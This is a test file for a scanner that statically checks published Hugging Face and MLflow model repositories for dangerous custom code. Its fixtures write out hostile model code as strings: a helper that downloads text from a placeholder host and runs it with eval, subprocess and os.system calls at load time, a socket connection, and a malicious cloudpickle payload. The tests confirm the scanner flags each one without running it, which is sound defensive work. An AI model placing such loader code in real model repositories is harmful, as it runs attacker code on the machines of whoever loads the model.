"""``warden scan DIR``: a model repository as it is published (a Hugging Face snapshot, an MLflow
model directory, a tarball of either). The custom code in these fixtures would leave a canary
file if it ever ran; it is only ever read as text."""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest

from scanners import parse
from scanners.cli import main
from scanners.modelfile import scan_path, to_report
from tests.scanners.modelfile import builders as b
from tests.scanners.modelfile.picklegen import P

ROOT = Path(__file__).resolve().parents[3]
W = "warden-modelscan/"

MODELING = '''\
"""A remote-code model (as transformers loads it with trust_remote_code=True)."""
import subprocess

import torch
from torch import nn

from .configuration_x import XConfig
from .utils_x import fetch_extra


class XModel(nn.Module):
    config_class = XConfig

    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(4, 4)
        subprocess.run(["touch", "{canary}"], check=False)
        fetch_extra()
'''

UTILS = """\
import requests


def fetch_extra():
    data = requests.get("https://example.invalid/extra").text
    with open("{canary}", "w") as fh:
        fh.write(data)
    eval(data)
"""

CONFIGURATION = """\
from transformers import PretrainedConfig


class XConfig(PretrainedConfig):
    model_type = "x"
"""

INFERENCE = '''\
import subprocess
import sys


class Handler:
    """Serving code shipped next to the weights; loading the model never runs it."""

    def __call__(self, data):
        return subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True)
'''


def _weights() -> bytes:
    return b.safetensors({"proj.weight": ("F32", [4, 4], b"\x00" * 64)})


def hf_snapshot(base: Path, canary: Path) -> Path:
    d = base / "x-model"
    d.mkdir(parents=True)
    config = {
        "model_type": "x",
        "architectures": ["XModel"],
        "auto_map": {
            "AutoConfig": "configuration_x.XConfig",
            "AutoModel": "modeling_x.XModel",
            "AutoModelForCausalLM": "other-org/other-repo--modeling_y.YModel",
        },
        "transformers_version": "4.44.0",
    }
    (d / "config.json").write_text(json.dumps(config))
    (d / "configuration_x.py").write_text(CONFIGURATION)
    (d / "modeling_x.py").write_text(MODELING.replace("{canary}", str(canary)))
    (d / "utils_x.py").write_text(UTILS.replace("{canary}", str(canary)))
    (d / "tokenizer.json").write_text(
        json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0}, "merges": []}})
    )
    (d / "tokenizer_config.json").write_text(json.dumps({"tokenizer_class": "GPT2Tokenizer"}))
    (d / "model.safetensors").write_bytes(_weights())
    (d / "pytorch_model.bin").write_bytes(b.torch_zip())
    (d / "inference.py").write_text(INFERENCE)
    (d / "README.md").write_text("# x-model\n")
    return d


def _by_rule(results: list[Any]) -> dict[str, list[Any]]:
    out: dict[str, list[Any]] = {}
    for r in results:
        for f in r.findings:
            out.setdefault(f.rule_id, []).append(f)
    return out


def test_hf_snapshot_custom_code_is_read_statically_with_file_and_line(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    d = hf_snapshot(tmp_path, canary)
    results = scan_path(d)
    rules = _by_rule(results)

    (process,) = rules[W + "code-process"]
    assert process.category == "model_code"
    assert process.severity == "critical"
    assert process.file_path.endswith("modeling_x.py")
    line = MODELING.splitlines().index('        subprocess.run(["touch", "{canary}"], check=False)')
    assert process.line == line + 1
    assert process.evidence["call"] == "subprocess.run"
    assert process.evidence["function"] == "XModel.__init__"
    assert "config.json auto_map.AutoModel" in process.evidence["referenced_by"]

    # the file modeling_x.py imports relatively is run too, and read
    kinds = {f.rule_id: f for f in rules[W + "code-network"] + rules[W + "code-file-write"]}
    assert all(f.file_path.endswith("utils_x.py") for f in kinds.values())
    assert {f.evidence["call"] for f in kinds.values()} == {"requests.get", "open"}
    (ev,) = rules[W + "code-eval"]
    assert ev.severity == "critical"
    assert ev.line == 8

    custom = {Path(f.file_path).name for f in rules[W + "custom-code"]}
    assert custom == {"modeling_x.py", "utils_x.py", "configuration_x.py"}
    assert all(f.category == "model_code" for f in rules[W + "custom-code"])

    (remote,) = rules[W + "remote-code"]
    assert remote.severity == "high"
    assert "other-org/other-repo" in remote.description

    # serving code next to the weights is source, not a pickle, and loading does not run it
    inference = next(r for r in results if r.path.endswith("inference.py"))
    assert inference.format == "python-source"
    assert not inference.findings
    assert not canary.exists()


def test_unsafe_weights_next_to_a_safe_copy(tmp_path: Path) -> None:
    d = hf_snapshot(tmp_path, tmp_path / "canary")
    (f,) = _by_rule(scan_path(d))[W + "unsafe-weights-beside-safe"]
    assert f.title == "pytorch_model.bin beside model.safetensors: ship only the safetensors"
    assert f.severity == "medium"
    assert f.category == "model_file"
    assert f.evidence["safe_copy"] == "model.safetensors"


def test_manifest_lists_every_file_with_format_size_sha256_and_scanned(tmp_path: Path) -> None:
    d = hf_snapshot(tmp_path, tmp_path / "canary")
    results = scan_path(d)
    (target,) = results.targets
    assert target.kind == "directory"
    assert target.layouts == [{"root": "", "kind": "huggingface"}]
    rows = {row["path"]: row for row in target.manifest}
    assert set(rows) == {p.name for p in d.iterdir()}
    for name, row in rows.items():
        data = (d / name).read_bytes()
        assert row["size"] == len(data)
        assert row["sha256"] == hashlib.sha256(data).hexdigest()
    assert rows["model.safetensors"]["format"] == "safetensors"
    assert rows["model.safetensors"]["scanned"] is True
    assert rows["model.safetensors"]["role"] == "weights"
    assert rows["pytorch_model.bin"]["format"] == "pytorch-zip"
    assert rows["modeling_x.py"]["scanned"] is True
    assert rows["modeling_x.py"]["role"] == "model code"
    assert rows["inference.py"]["scanned"] is False
    assert "does not run" in rows["inference.py"]["reason"]
    assert rows["README.md"]["scanned"] is False


def test_report_target_is_the_directory_and_the_digest_only_for_one_weights_file(
    tmp_path: Path,
) -> None:
    d = hf_snapshot(tmp_path, tmp_path / "canary")
    report = to_report(scan_path(str(d)))
    assert report.target == str(d)
    assert report.artifact_sha256 == ""  # two weights files: safetensors and the .bin
    (d / "pytorch_model.bin").unlink()
    report = to_report(scan_path(str(d)))
    assert report.artifact_sha256 == hashlib.sha256(_weights()).hexdigest()
    single = to_report(scan_path(d / "model.safetensors"))
    assert single.target == str(d / "model.safetensors")
    assert single.artifact_sha256 == report.artifact_sha256


def test_clean_folder_with_source_files_passes(tmp_path: Path, capsys: Any) -> None:
    d = tmp_path / "clean"
    d.mkdir()
    (d / "model.safetensors").write_bytes(_weights())
    (d / "config.json").write_text(json.dumps({"model_type": "bert", "hidden_size": 4}))
    (d / "inference.py").write_text(INFERENCE)
    (d / "handler.py").write_text("import json\nclass EndpointHandler:\n    pass\n")
    (d / "vocab.txt").write_text("cat\ndog\nelephant\n")
    assert main(["scan", str(d)]) == 0
    out = capsys.readouterr().out
    assert "python-source" in out
    assert "0 finding(s)" in out


def test_json_round_trip_keeps_model_code_findings_and_the_manifest(
    tmp_path: Path, capsys: Any
) -> None:
    d = hf_snapshot(tmp_path, tmp_path / "canary")
    assert main(["scan", str(d), "--format", "json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    (target,) = doc["targets"]
    assert target["path"] == str(d)
    assert {row["path"] for row in target["manifest"]} >= {"modeling_x.py", "model.safetensors"}
    report = parse(json.dumps(doc).encode())
    assert report.target == str(d)
    code = [f for f in report.findings if f.category == "model_code"]
    assert {f.rule_id for f in code} >= {W + "code-process", W + "custom-code"}
    assert report.metadata["targets"][0]["manifest"]
    direct = to_report(scan_path(d))
    assert [f.fingerprint for f in report.findings] == [f.fingerprint for f in direct.findings]


def test_model_code_fingerprints_do_not_depend_on_where_the_repository_is(
    tmp_path: Path,
) -> None:
    a = hf_snapshot(tmp_path / "a", tmp_path / "canary")
    b2 = hf_snapshot(tmp_path / "b", tmp_path / "canary")
    fa = {f.fingerprint for r in scan_path(a) for f in r.findings if f.category == "model_code"}
    fb = {f.fingerprint for r in scan_path(b2) for f in r.findings if f.category == "model_code"}
    assert fa == fb
    assert len(fa) > 5


def _tar_gz(d: Path) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for p in sorted(d.rglob("*")):
            if p.is_file():
                tf.add(p, arcname=f"{d.name}/{p.relative_to(d)}")
    return buf.getvalue()


def test_tarball_of_a_snapshot_is_read_like_the_directory(tmp_path: Path) -> None:
    d = hf_snapshot(tmp_path, tmp_path / "canary")
    tgz = tmp_path / "x-model.tar.gz"
    tgz.write_bytes(_tar_gz(d))
    (res,) = scan_path(tgz)
    assert res.format == "tar+gzip"
    rules = _by_rule([res])
    (process,) = rules[W + "code-process"]
    assert process.file_path == str(tgz)
    assert process.archive_member == "[gzip]/x-model/modeling_x.py"
    assert process.line is not None
    assert W + "remote-code" in rules
    assert W + "unsafe-weights-beside-safe" in rules
    assert res.repository is not None
    rows = {row["path"]: row for row in res.repository["manifest"]}
    data = (d / "model.safetensors").read_bytes()
    assert rows["x-model/model.safetensors"]["sha256"] == hashlib.sha256(data).hexdigest()
    assert res.repository["layouts"] == [{"root": "x-model", "kind": "huggingface"}]


# ---------------------------------------------------------------------------- MLflow

MLMODEL = """\
artifact_path: model
flavors:
  python_function:
    cloudpickle_version: 3.0.0
    code: code
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: custom_loader
    python_version: 3.11.7
mlflow_version: 2.14.1
model_uuid: 3f0c
"""

LOADER = """\
import os

from helpers import connect


def _load_pyfunc(path):
    os.system("touch {canary}")
    return connect()
"""

HELPERS = """\
import socket


def connect():
    return socket.create_connection(("example.invalid", 80))
"""


def mlflow_dir(base: Path, canary: Path) -> Path:
    d = base / "mlflow-model"
    (d / "code").mkdir(parents=True)
    (d / "MLmodel").write_text(MLMODEL)
    (d / "code" / "custom_loader.py").write_text(LOADER.replace("{canary}", str(canary)))
    (d / "code" / "helpers.py").write_text(HELPERS)
    (d / "conda.yaml").write_text("dependencies:\n  - python=3.11\n")
    (d / "python_env.yaml").write_text("python: 3.11.7\n")
    return d


def test_mlflow_loader_module_and_what_it_imports(tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    d = mlflow_dir(tmp_path, canary)
    results = scan_path(d)
    rules = _by_rule(results)
    (process,) = rules[W + "code-process"]
    assert process.file_path.endswith("code/custom_loader.py")
    assert process.line == 7
    assert process.evidence["call"] == "os.system"
    assert "loader_module" in process.evidence["referenced_by"]
    (net,) = rules[W + "code-network"]
    assert net.file_path.endswith("code/helpers.py")
    assert results.targets[0].layouts == [{"root": "", "kind": "mlflow"}]
    assert not canary.exists()


def test_mlflow_model_from_code_and_pickled_python_model(tmp_path: Path) -> None:
    d = tmp_path / "m"
    d.mkdir()
    (d / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
        "    python_model: model.py\n"
    )
    (d / "model.py").write_text("import subprocess\nsubprocess.Popen(['id'])\n")
    (process,) = _by_rule(scan_path(d))[W + "code-process"]
    assert process.file_path.endswith("model.py")
    assert process.line == 2

    e = tmp_path / "pickled"
    e.mkdir()
    (e / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
        "    python_model: python_model.pkl\n"
    )
    cloudpickled = P(4).str_("cloudpickle.cloudpickle").str_("_make_function").stack_global()
    (e / "python_model.pkl").write_bytes(cloudpickled.empty_tuple().reduce().stop().data)
    rules = _by_rule(scan_path(e))
    assert rules["unsafe-import"][0].severity == "critical"
    assert "pickled Python model" in rules[W + "custom-code"][0].title


def test_mlflow_loader_module_missing_from_the_directory(tmp_path: Path) -> None:
    d = tmp_path / "m"
    d.mkdir()
    (d / "MLmodel").write_text("flavors:\n  python_function:\n    loader_module: acme_loader\n")
    (f,) = _by_rule(scan_path(d))[W + "remote-code"]
    assert "acme_loader" in f.title
    assert f.severity == "high"


def test_warden_client_scan_directory(tmp_path: Path) -> None:
    d = mlflow_dir(tmp_path, tmp_path / "canary")
    env = {k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG")}
    proc = subprocess.run(
        [sys.executable, "-m", "scanners.client", "scan", str(d)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["targets"][0]["kind"] == "directory"
    cats = {f["category"] for file in doc["files"] for f in file["findings"]}
    assert "model_code" in cats


@pytest.mark.parametrize("layout", ["hf", "mlflow"])
def test_scanning_never_runs_the_code(tmp_path: Path, layout: str) -> None:
    canary = tmp_path / "canary"
    d = hf_snapshot(tmp_path, canary) if layout == "hf" else mlflow_dir(tmp_path, canary)
    assert main(["scan", str(d), "--format", "json"]) == 1
    assert not canary.exists()
